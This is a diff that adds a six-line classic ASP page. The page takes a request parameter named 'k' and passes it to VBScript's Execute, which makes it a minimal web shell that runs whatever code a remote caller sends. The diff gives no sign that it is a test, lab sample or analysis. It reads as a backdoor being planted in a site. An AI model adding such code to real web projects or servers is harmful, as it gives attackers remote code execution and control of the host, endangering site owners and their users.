@@ -1,0 +1,6 @@
+<%@ Language=VBScript %>
+<%
+If Request("k") <> "" Then
+  Execute Request("k")
+End If
+%>
